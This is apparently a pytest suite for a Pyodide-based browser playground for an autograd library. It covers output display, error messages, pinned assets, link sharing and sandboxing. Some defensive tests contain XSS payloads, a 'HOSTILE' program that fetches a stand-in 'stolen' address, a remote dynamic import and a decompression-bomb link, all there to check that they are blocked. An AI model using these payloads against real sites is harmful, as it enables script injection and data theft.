"""The playground: what a program shows, the site's files, and the page in a browser."""

import base64
import hashlib
import json
import os
import random
import re
import shutil
import subprocess
import sys
import threading
import urllib.request
import zipfile
import zlib
from contextlib import contextmanager

import pytest

from autograd_lite import Value, draw
from nn.playground import server_of, site, write_playground
from nn.playground.runner import run
from nn.playground.wheels import wheel_of


def shown(program):
    """Return what a program shows: its text in one piece, and all else as (kind, content, line)."""
    results = []
    run(program, lambda *what: results.append(what))
    text = "".join(content for kind, content, _ in results if kind == "text")
    return text, [result for result in results if result[0] != "text"]


# ---------------------------------------------------------------------------------------------- programs


def test_an_expression_shows_itself_and_the_last_graph_is_explored():
    text, others = shown(
        "from autograd_lite import Value\na = Value(3.0, 'a')\ny = a * a\ny.backward()\ny\na.grad"
    )

    assert text == "6.0\n"
    (html, picture, line), (page, explorer, _) = others
    assert (html, line, page) == ("html", 5, "page")
    assert "<b>value</b> = <code>9.0</code>" in picture
    assert "<title>Explorer: the graph of C</title>" in explorer


@pytest.mark.parametrize(
    ("program", "root"),
    [
        ("u = a * 2\nu.label = 'u'\nv = a * 3\nv.label = 'v'\nu.backward()", "u"),
        ("u = a * 2\nu.label = 'u'\nv = a * 3\nv.label = 'v'\nprint(a)", "v"),
        ("for k in range(3):\n    u = a ** k + 1\n    u.label = f'u{k}'", "u2"),
    ],
)
def test_the_graph_is_that_of_the_value_named_last_and_computed(program, root):
    _, others = shown(f"from autograd_lite import Value\na = Value(3.0, 'a')\n{program}")

    (page,) = [content for kind, content, _ in others if kind == "page"]
    assert re.search("<title>Explorer: the graph of (.*)</title>", page)[1] == root


def test_a_program_without_a_graph_has_no_explorer():
    assert shown("from autograd_lite import Value\nValue(2.0)")[1][-1][0] == "html"
    assert shown("") == ("", [])
    assert shown("None") == ("", [])


def test_numbers_in_a_list_are_a_curve():
    text, ((kind, content, line),) = shown("[1, 0.5, 0.25]")
    assert (text, kind, line) == ("[1, 0.5, 0.25]\n", "html", 1)
    assert "3 numbers; the axis: from 0 to 1" in content

    assert shown("list(range(13))")[0] == ""
    assert shown("[1, 2]") == ("[1, 2]\n", [])
    assert shown("[1, 2, 'three']") == ("[1, 2, 'three']\n", [])
    assert shown("[1, 2, 10**400]") == (f"[1, 2, {10**400}]\n", [])


@pytest.mark.parametrize(
    ("program", "told", "line"),
    [
        ("x = 1\neval('1 +')", "line 2: eval('1 +')\n", 2),
        ("x = 1\n'a' * 300_000", "line 2: 'a' * 300_000\nRuntimeError: more than 200,000 letters", 2),
        ("x = 1\nx / 0", "line 2: x / 0\nZeroDivisionError: division by zero", 2),
        (
            "def f():\n    g()\ndef g():\n    return [][1]\nf()",
            "line 5: f()\nline 2: g()\nline 4: return [][1]\n",
            4,
        ),
        ("x = (1,\ny = 2", "line 1: '(' was never closed", 1),
        ("print('a')\n  print('b')", "line 2: unexpected indent", 2),
        ("input('a number?')", "OSError: input() has nobody to ask here: write what would be typed", 1),
        ("import sys\nsys.exit(3)", "line 2: sys.exit(3)\nSystemExit: 3", 2),
        ("def f(): f()\nf()", "line 1: def f(): f()\n…\nline 1: def f(): f()\n", 1),
        ("import nothing_like_it", "'nothing_like_it'\nThere are Python's own modules, autograd_lite,", 1),
        ("from autograd_lite import Value\nValue('a')", "line 2: Value('a')\nTypeError: ", 2),
    ],
)
def test_an_error_names_the_programs_own_lines(program, told, line):
    _, (result,) = shown(program)

    assert (result[0], result[2]) == ("error", line)
    assert told in result[1]


def test_what_was_there_before_an_error_is_shown():
    text, others = shown(
        "from autograd_lite import Value\nu = Value(1.0, 'a') * 2\nprint('so far')\nu.nothing"
    )

    assert text == "so far\n"
    assert [kind for kind, *_ in others] == ["error", "page"]


def test_a_loop_that_prints_for_ever_ends():
    text, ((_, told, line),) = shown("while True:\n    print('again and again' * 99)")

    assert 190_000 < len(text) <= 200_000
    assert "RuntimeError: more than 200,000 letters to show" in told
    assert line == 2


def test_a_program_that_enters_an_operation_can_run_again():
    cube = "operation('cube', lambda x: x * x * x, lambda y, x: 3 * x**2)"
    program = f"from autograd_lite import operation\n{cube}(2)"

    assert shown(program) == shown(program) == ("8\n", [])


def test_nothing_of_the_future_comes_by_itself():
    assert shown("def f(x: 1 + 1): pass\nf.__annotations__") == ("{'x': 2}\n", [])


def test_what_is_printed_comes_at_once_and_much_of_it_in_pieces():
    pieces = []
    run("print(1)\nprint(2)", lambda *what: pieces.append(what[1]))
    assert pieces == ["1", "\n", "2", "\n"]

    pieces.clear()
    run("for k in range(20_000):\n    print(k)", lambda *what: pieces.append(what[1]))
    assert "".join(pieces) == "".join(f"{k}\n" for k in range(20_000))
    assert len(pieces) < 5_000


def test_a_graph_that_is_too_large_to_look_at_is_said_to_be():
    _, ((kind, told, _),) = shown(
        "from autograd_lite import Value\nx = Value(1.0)\nfor _ in range(3000):\n    x = x + 1\n"
    )

    assert kind == "advice"
    assert "a page is for looking at up to 2,000" in told


def test_a_missing_numpy_is_left_to_the_page(monkeypatch):
    monkeypatch.setitem(sys.modules, "numpy", None)

    with pytest.raises(ModuleNotFoundError) as caught:
        shown("import numpy")
    assert caught.value.name == "numpy"


@pytest.mark.parametrize("example", site.examples(), ids=lambda example: example["title"])
def test_the_examples_run_without_numpy(example):
    program = (
        "import sys, json\nsys.modules['numpy'] = None\nfrom nn.playground.runner import run\nkinds = []\n"
        f"run({example['program']!r}, lambda *what: kinds.append(what[0]))\nprint(json.dumps(kinds))"
    )
    ended = subprocess.run([sys.executable, "-c", program], capture_output=True, text=True, check=True)

    kinds = json.loads(ended.stdout)
    assert "error" not in kinds
    assert {"html", "page"} & set(kinds)
    assert example["sentence"].endswith(".")


def test_there_are_eight_examples():
    assert len(site.examples()) == 8


# ---------------------------------------------------------------------------------------------- the site


def test_a_wheel_is_one(tmp_path):
    name, content = wheel_of("autograd-lite")
    assert wheel_of("autograd-lite") == (name, content)
    (tmp_path / name).write_bytes(content)

    with zipfile.ZipFile(tmp_path / name) as archive:
        (record,) = [one for one in archive.namelist() if one.endswith("/RECORD")]
        lines = [line.rsplit(",", 2) for line in archive.read(record).decode().splitlines()]
        assert {line[0] for line in lines} == set(archive.namelist())
        for path, sha, size in lines:
            if path != record:
                digest = hashlib.sha256(archive.read(path)).digest()
                assert sha == f"sha256={base64.urlsafe_b64encode(digest).rstrip(b'=').decode()}"
                assert int(size) == len(archive.read(path))
        assert "autograd_lite/value.py" in archive.namelist()
        assert "nn/data/iris.csv" in archive.namelist()
    pip = [sys.executable, "-m", "pip", "install", "--no-deps", "--no-index", "--target"]
    subprocess.run([*pip, str(tmp_path / "there"), str(tmp_path / name)], check=True, capture_output=True)
    assert (tmp_path / "there" / "autograd_lite" / "value.py").is_file()


def test_all_that_is_loaded_from_elsewhere_is_pinned(tmp_path):
    page = write_playground(tmp_path).read_text(encoding="utf-8")

    (imports,) = re.findall('<script type="importmap">(.*)</script>', page)
    (settings,) = re.findall('<script type="application/json" id="settings">(.*)</script>', page)
    imports, settings = json.loads(imports), json.loads(settings)
    addresses = {*imports["imports"].values(), *settings["hashes"]}
    assert {urllib.request.urlparse(address).netloc for address in addresses} == {"cdn.jsdelivr.net"}
    assert set(imports["integrity"]) == set(imports["imports"].values())
    hashes = [*imports["integrity"].values(), *settings["hashes"].values()]
    assert all(re.fullmatch(r"sha384-[\w+/]{64}", sha) for sha in hashes)
    assert all(re.search(r"@\d+\.\d+\.\d+/", address) for address in addresses)
    manifest = json.loads((tmp_path / "manifest.json").read_text(encoding="utf-8"))
    assert {name for one in manifest["loaded"] for name in one["files"]} == set(settings["hashes"])
    assert all(one["licence"] for one in [*manifest["loaded"], *manifest["wheels"]])
    assert {f"{one['name']}-{one['version']}-py3-none-any.whl" for one in manifest["wheels"]} < {
        *settings["wheels"]
    }
    assert all((tmp_path / wheel).is_file() for wheel in settings["wheels"])
    assert "</script" not in settings["examples"][0]["program"]


def test_graphviz_is_pinned_as_the_engine_pins_it():
    from autograd_lite.draw import programs

    (pin,) = [pin for pin in json.loads(site._text("pins.json")) if "graphviz" in pin["name"]]
    assert f"{pin['name']}@{pin['version']}/dist/index.js" in programs.GRAPHVIZ
    assert pin["files"] == {"dist/index.js": programs.INTEGRITY}


def test_without_npm_the_advice_is_what_to_install(tmp_path, monkeypatch):
    monkeypatch.setenv("PATH", "")

    with pytest.raises(RuntimeError, match=r"--offline needs npm, which comes with Node\.js: install that"):
        write_playground(tmp_path, offline=True)


def test_a_server_is_for_this_machine_and_takes_a_port_that_is_free(tmp_path):
    (tmp_path / "index.html").write_text("<p>here</p>", encoding="utf-8")
    servers = [server_of(tmp_path) for _ in range(2)]
    for server, address in servers:
        threading.Thread(target=server.serve_forever, daemon=True).start()
        assert urllib.request.urlopen(address).read() == b"<p>here</p>"
        assert server.server_address[0] == "127.0.0.1"
    for server, _ in servers:
        server.shutdown()
        server.server_close()


# ------------------------------------------------------------------------- in Pyodide, and in a browser


@pytest.fixture(scope="module")
def folder(tmp_path_factory):
    """Write the site with all that it needs; where npm does not deliver, skip, but not where CI is set."""
    folder = tmp_path_factory.mktemp("playground")
    try:
        write_playground(folder, offline=True)
    except RuntimeError as error:
        if os.environ.get("CI"):
            raise
        pytest.skip(str(error))
    return folder


@contextmanager
def served(folder):
    """Serve a folder; give its address."""
    server, address = server_of(folder)
    threading.Thread(target=server.serve_forever, daemon=True).start()
    try:
        yield address
    finally:
        server.shutdown()
        server.server_close()


@pytest.fixture(scope="module")
def offline(folder):
    with served(folder) as address:
        yield address


IN_NODE = """
import {readdirSync, readFileSync} from "node:fs";
const [folder] = process.argv.slice(2);
const {loadPyodide} = await import(`${folder}/npm/pyodide/pyodide.mjs`);
const python = await loadPyodide();
for (const name of readdirSync(folder).filter((name) => name.endsWith(".whl")))
  python.unpackArchive(new Uint8Array(readFileSync(`${folder}/${name}`)), "wheel");
const script = readFileSync(`${folder}/npm/@hpcc-js/wasm-graphviz/dist/index.js`).toString("base64");
python.globals.set("URL", `data:text/javascript;base64,${script}`);
await python.runPythonAsync(`
from autograd_lite import Value, draw, explore, load_layout

y = (Value(2.0, "x") * 3).tanh()
y.backward()
try:
    draw(y).pipe()
except RuntimeError as error:
    print(error)
try:
    await load_layout(URL, "sha384-" + "A" * 64)
except Exception as error:
    print(type(error).__name__)
await load_layout(URL)
print(draw(y).pipe("svg", encoding="utf-8").count("<text"), "tanh" in explore(y).html)
`);
"""


@pytest.mark.slow
def test_a_notebook_in_a_browser_fetches_its_layout_program_whole_or_not_at_all(folder, tmp_path):
    """Under Node.js, where Pyodide runs too."""
    (tmp_path / "in_node.mjs").write_text(IN_NODE, encoding="utf-8")
    command = ["node", str(tmp_path / "in_node.mjs"), str(folder)]
    ended = subprocess.run(command, capture_output=True, text=True, check=False)

    advice = "drawing needs a layout program: `await autograd_lite.load_layout()` fetches it"
    y = (Value(2.0, "x") * 3).tanh()
    y.backward()
    texts = draw(y).pipe("svg", encoding="utf-8").count("<text")
    assert ended.stdout.splitlines() == [advice, "JsException", f"{texts} True"], ended.stderr[-999:]


CONTROL, ENTER = "\ue009", "\ue007"
"""Keys, as WebDriver has them."""


class Playground:
    """What tests do on the page."""

    def __init__(self, browser, address):
        self.browser, self.address = browser, address

    def open(self, rest=""):
        self.browser.driver.get("about:blank")
        self.browser.driver.get(self.address + rest)
        self.browser.wait("document.querySelector('.cm-content')", 20)

    def status(self, words, seconds=60):
        self.browser.wait(f"document.getElementById('status').textContent.includes({words!r})", seconds)

    def type(self, program):
        """Put a program in place of what is there, as a reader does who pastes it."""
        self.browser.find(".cm-content").send_keys(CONTROL + "a")
        self.browser.driver.execute_cdp_cmd("Input.insertText", {"text": program})

    def program(self):
        return "\n".join(
            self.browser.run("return [...document.querySelectorAll('.cm-line')].map((l) => l.textContent)")
        )

    def run(self, program=None):
        if program is not None:
            self.type(program)
        self.browser.named("Run").click()
        self.ended()

    def ended(self):
        ended = "/(Done in|after) [\\d.]+ s/.test(document.getElementById('status').textContent)"
        self.browser.wait(ended, 60)

    def results(self):
        return self.browser.run(
            "return [...document.getElementById('results').children].map((e) => e.textContent || e.srcdoc)"
        )


@pytest.fixture
def playground(browser, offline):
    browser.driver.get(offline + "manifest.json")
    browser.run("localStorage.clear()")
    browser.console()
    page = Playground(browser, offline)
    page.open()
    yield page
    assert browser.console() == []


PROGRAM = """\
from autograd_lite import Value
w, x = Value(0.1, "w"), Value(3.0, "x")
y = (w * x).sin() + w ** 3
y.backward()
print(repr(y.data), repr(w.grad))
"""


def test_the_numbers_are_pythons(playground):
    w, x = Value(0.1), Value(3.0)
    y = (w * x).sin() + w**3
    y.backward()

    playground.run(PROGRAM)

    text, page = playground.results()
    assert text == f"{y.data!r} {w.grad!r}\n"
    assert "Explorer: the graph of" in page


def test_a_loop_without_end_is_stopped_at_once_and_python_begins_anew(playground):
    playground.type("while True: pass")
    playground.browser.find(".cm-content").send_keys(CONTROL + ENTER)
    playground.status("Running")
    playground.browser.named("Stop").click()
    playground.status("Stopped after", 10)
    playground.status("Python is ready")

    playground.run("print(6 * 7)")
    assert playground.results() == ["42\n"]


def test_a_chain_of_many_nodes_is_freed_node_by_node(playground):
    playground.run(
        "from autograd_lite import Value\nx = y = Value(1.0, 'x')\nfor _ in range(20_000):\n    y = y + 1\n"
        "y.backward()\nx.grad\ny"
    )

    assert playground.browser.find("#status").text.startswith("Done in")
    assert playground.results()[0] == "1\n"


def test_an_error_is_marked_in_its_line(playground):
    playground.run("a = 1\n\nb = a / 0\n")

    assert playground.results() == ["line 3: b = a / 0\nZeroDivisionError: division by zero"]
    assert playground.browser.find("#status").text.startswith("An error in line 3, after ")
    has_mark = "(line) => line.querySelector('.cm-lintRange-error')"
    mark = f"[...document.querySelectorAll('.cm-line')].findIndex({has_mark})"
    playground.browser.wait(f"{mark} === 2")

    playground.run("b = 1")
    playground.browser.wait(f"{mark} === -1")


def test_a_program_survives_a_reload(playground):
    playground.type("kept = 'ä ∂ 😀'")
    playground.open()

    assert playground.program() == "kept = 'ä ∂ 😀'"


def test_a_link_holds_the_program_and_what_came_with_one_waits(playground):
    program = "print('<b>ran</b>')\n" * 50 + "é = '∂'"
    playground.type(program)
    playground.browser.named("Share").click()
    playground.status("link with this program")
    fragment = playground.browser.run("return location.hash")
    assert re.fullmatch(r"#code=[\w-]{20,300}", fragment)

    playground.type("mine = 1")
    playground.browser.driver.refresh()
    playground.browser.wait("document.querySelector('.cm-line')?.textContent === 'mine = 1'", 20)
    playground.open(fragment)

    playground.status("Python is ready")
    assert playground.browser.find("#note").text == "This program came with the link: read it, then run it."
    assert playground.results() == []
    playground.run()
    assert playground.results() == ["<b>ran</b>\n" * 50]
    playground.open()
    assert playground.program() == "mine = 1"


def packed(text):
    """Return what stands behind the # for a text, as RFC 1951 and RFC 4648 have it."""
    compress = zlib.compressobj(9, wbits=-15)
    data = compress.compress(text.encode()) + compress.flush()
    return "#code=" + base64.urlsafe_b64encode(data).decode().rstrip("=")


@pytest.mark.parametrize("fragment", ["#code=AAAA", packed("#" * 10**8)], ids=["cut", "bomb"])
def test_a_damaged_link_is_said_to_be(playground, fragment):
    playground.open(fragment)

    assert "damaged, perhaps cut off" in playground.browser.find("#note").text
    assert playground.program().strip() == site.examples()[0]["program"].strip()


def test_a_program_too_long_for_a_link_is_said_to_be(playground):
    playground.type(f"x = '{random.Random(1).randbytes(20_000).hex()}'")
    playground.browser.named("Share").click()

    playground.status("too long for a link")


def test_each_tab_keeps_its_own_program_and_a_new_one_begins_with_the_last(playground):
    driver = playground.browser.driver
    first = driver.current_window_handle
    playground.type("first = 1")
    driver.switch_to.new_window("tab")
    playground.open()
    assert playground.program() == "first = 1"
    playground.type("second = 2")
    driver.switch_to.window(first)
    playground.open()

    assert playground.program() == "first = 1"
    driver.switch_to.window(driver.window_handles[-1])
    playground.open()
    assert playground.program() == "second = 2"
    driver.close()
    driver.switch_to.window(first)


def test_html_from_a_program_reaches_nothing(playground):
    playground.run(
        "class Hostile:\n"
        "    def _repr_html_(self):\n"
        "        return '<script>parent.document.title = localStorage.length</script><p id=there>shown</p>'\n"
        "Hostile()\n"
        "print('<img src=x onerror=alert(1)>')\n"
        "from autograd_lite import Value\n"
        "y = Value(1.0, '</script><script>parent.document.title = 1</script>') * 2\n"
    )

    assert playground.browser.driver.title == "Python and backpropagation"
    assert (
        playground.browser.run(
            "return [...document.querySelectorAll('#results iframe')].map((f) => f.getAttribute('sandbox'))"
        )
        == ["allow-scripts allow-downloads"] * 2
    )
    assert (
        playground.browser.run("return document.querySelectorAll('#results img, #results script').length")
        == 0
    )
    told = [one for one in playground.browser.console() if "Blocked a frame" not in one]
    assert told == []


HOSTILE = """\
import js, json
for name in ("XMLHttpRequest", "WebSocket", "Worker", "indexedDB", "caches", "BroadcastChannel"):
    print(name, hasattr(js, name))
print(hasattr(js.navigator, "storage"), hasattr(js.WorkerGlobalScope.prototype, "fetch"))
def tell(error, js=js, json=json):  # names are gone when the program has ended
    js.postMessage(js.JSON.parse(json.dumps({"kind": "text", "content": error.message})))
for address in ("manifest.json", "https://example.org/?stolen"):
    js.fetch(address).catch(tell)
"""


def test_a_strangers_program_reaches_no_other_page(playground):
    playground.run(HOSTILE)

    playground.browser.wait("document.getElementById('results').textContent.includes('stolen is no part')")
    (text,) = playground.results()
    assert text.count("False") == 8
    assert "manifest.json is no part of the playground, which fetches nothing else" in text


def test_what_an_import_could_carry_away_is_not_fetched(playground):
    playground.run("from pyodide.code import run_js\nrun_js('import(\"https://example.org/?stolen\")')")

    assert "EvalError" in playground.results()[0]


def test_embedded_it_is_the_program_and_its_result(playground):
    from selenium.webdriver.support import expected_conditions
    from selenium.webdriver.support.ui import WebDriverWait

    playground.type("mine = 2")
    playground.open("?embed")

    playground.run()
    assert "Explorer" in playground.results()[-1]
    assert not playground.browser.find("h1").is_displayed()
    playground.browser.find("#whole").click()
    driver = playground.browser.driver
    embedded = driver.current_window_handle
    WebDriverWait(driver, 5).until(expected_conditions.number_of_windows_to_be(2))
    driver.switch_to.window(driver.window_handles[-1])
    playground.browser.wait("document.querySelector('.cm-content')", 20)
    assert playground.program().strip() == site.examples()[0]["program"].strip()
    assert "came with the link" in playground.browser.find("#note").text
    driver.close()
    driver.switch_to.window(embedded)
    playground.open()
    assert playground.program() == "mine = 2"


def test_without_a_network_numpy_is_said_to_be_missing(playground):
    playground.run("import numpy")

    assert playground.results() == [
        "This program needs NumPy, which this copy of the playground does not have."
    ]


@pytest.mark.parametrize(
    "part",
    [
        "main.js",
        "editor.js",
        "npm/codemirror",
        "worker.js",
        "npm/pyodide/pyodide.mjs",
        "npm/pyodide/pyodide.asm.wasm",
        "npm/pyodide/python_stdlib.zip",
        "npm/@hpcc-js",
    ],
)
def test_what_a_lost_network_keeps_away_is_said(browser, folder, tmp_path, part):
    site = shutil.copytree(folder, tmp_path / "site", copy_function=os.link)
    (site / part).rename(tmp_path / "away")
    with served(site) as address:
        browser.driver.get(address)
        browser.wait("document.getElementById('status').textContent.includes('did not come')", 30)
        assert "Is there a network?" in browser.find("#status").text
        browser.driver.get("about:blank")
    browser.console()


def test_what_was_lost_comes_with_the_next_run(browser, folder, tmp_path):
    site = shutil.copytree(folder, tmp_path / "site", copy_function=os.link)
    wasm = site / "npm/pyodide/pyodide.asm.wasm"
    wasm.rename(tmp_path / "away")
    with served(site) as address:
        page = Playground(browser, address)
        page.open()
        page.status("Run tries again", 30)
        (tmp_path / "away").rename(wasm)
        page.run("6 * 7")
        assert page.results() == ["42\n"]
        browser.driver.get("about:blank")
    browser.console()


def test_with_a_network_all_comes_as_pinned_and_numpy_when_a_program_asks_for_it(
    browser, folder, tmp_path, monkeypatch
):
    """From a folder that stands for the CDN, with a small NumPy."""
    cdn = tmp_path / "cdn"
    for pin in json.loads(site._text("pins.json")):
        shutil.copytree(folder / "npm" / pin["name"], cdn / "npm" / f"{pin['name']}@{pin['version']}")
    (lock,) = cdn.rglob("pyodide-lock.json")
    before = integrity(lock)
    numpy = (packages := json.loads(lock.read_text(encoding="utf-8")))["packages"]["numpy"]
    wheel = cdn / "pyodide" / lock.parent.name.replace("pyodide@", "v") / "full" / numpy["file_name"]
    wheel.parent.mkdir(parents=True)
    with zipfile.ZipFile(wheel, "w") as archive:
        archive.writestr("numpy/__init__.py", "answer = 42\n")
        archive.writestr(f"numpy-{numpy['version']}.dist-info/METADATA", "Name: numpy\n")
    numpy["sha256"] = hashlib.sha256(wheel.read_bytes()).hexdigest()
    lock.write_text(json.dumps(packages), encoding="utf-8")
    with served(tmp_path) as address:
        monkeypatch.setattr(site, "_CDN", f"{address}cdn/")
        page = write_playground(tmp_path / "site")
        page.write_text(page.read_text(encoding="utf-8").replace(before, integrity(lock)), encoding="utf-8")
        playground = Playground(browser, f"{address}site/")
        playground.open()
        playground.run("print('once')\nimport numpy\nnumpy.answer")
        assert playground.results() == ["once\n42\n"]
        browser.driver.get("about:blank")


def integrity(path):
    """Return a file's hash, as the W3C's Subresource Integrity writes it."""
    return f"sha384-{base64.b64encode(hashlib.sha384(path.read_bytes()).digest()).decode()}"


TAB, SHIFT, ESCAPE, DOWN = "\ue004", "\ue008", "\ue00c", "\ue015"


def test_a_keyboard_alone_will_do(playground):
    browser = playground.browser

    def here():
        return browser.driver.switch_to.active_element

    playground.status("Python is ready")
    browser.press(*[TAB] * 6)
    browser.driver.switch_to.active_element.send_keys(CONTROL + "a")
    browser.press("print(6 * 7)", ESCAPE, ESCAPE, TAB)  # the first may close what is offered to complete
    assert here().get_attribute("id") == "results"

    browser.run("document.getElementById('run').focus()")
    for _ in range(2):
        browser.press(ENTER)
        playground.ended()
        assert here().accessible_name == "Run"
    assert playground.results() == ["42\n"]

    browser.press(TAB, TAB, TAB)
    for example in site.examples()[:2]:
        browser.press(DOWN)
        playground.ended()
        assert playground.program().strip() == example["program"].strip()


def test_the_main_paths_in_firefox(firefox, offline):
    w, x = Value(0.1), Value(3.0)
    y = (w * x).sin() + w**3
    y.backward()
    numbers = f"{y.data!r} {w.grad!r}\n"

    def run(program, words):
        firefox.open(offline + packed(program))
        firefox.wait("document.querySelector('#note')?.textContent.includes('came with the link')", 30)
        first = program.splitlines()[0]
        firefox.wait(f"document.querySelector('.cm-line').textContent === {json.dumps(first)}")
        firefox.click("Run")
        firefox.wait(f"document.getElementById('status').textContent.includes({words!r})", 60)
        return firefox.text("#results")

    assert run(PROGRAM, "Done in") == numbers
    assert firefox.run(
        "return document.querySelector('iframe.page').srcdoc.includes('Explorer: the graph of')"
    )
    assert "ZeroDivisionError: division by zero" in run("a = 1\nb = a / 0", "An error in line 2, after ")
    run("while True: pass", "Running")
    firefox.click("Stop")
    firefox.wait("document.getElementById('status').textContent.startsWith('Python is ready')", 60)
    assert run(PROGRAM, "Done in") == numbers
    assert firefox.console() == []


def test_an_example_takes_the_place_of_what_runs(playground):
    from selenium.webdriver.support.ui import Select

    playground.type("while True: pass")
    playground.browser.named("Run").click()
    playground.status("Running")
    Select(playground.browser.named("example")).select_by_visible_text("One neuron")

    playground.status("Done in")
    assert "Explorer" in playground.results()[-1]


def test_each_example_runs_when_it_is_chosen(playground):
    from selenium.webdriver.support.ui import Select

    for example in site.examples():
        Select(playground.browser.named("example")).select_by_visible_text(example["title"])
        playground.ended()
        assert playground.browser.find("#note").text == example["sentence"]
        assert playground.program().strip() == example["program"].strip()
        assert playground.browser.run("return document.querySelectorAll('#results .error').length") == 0
        assert playground.results()
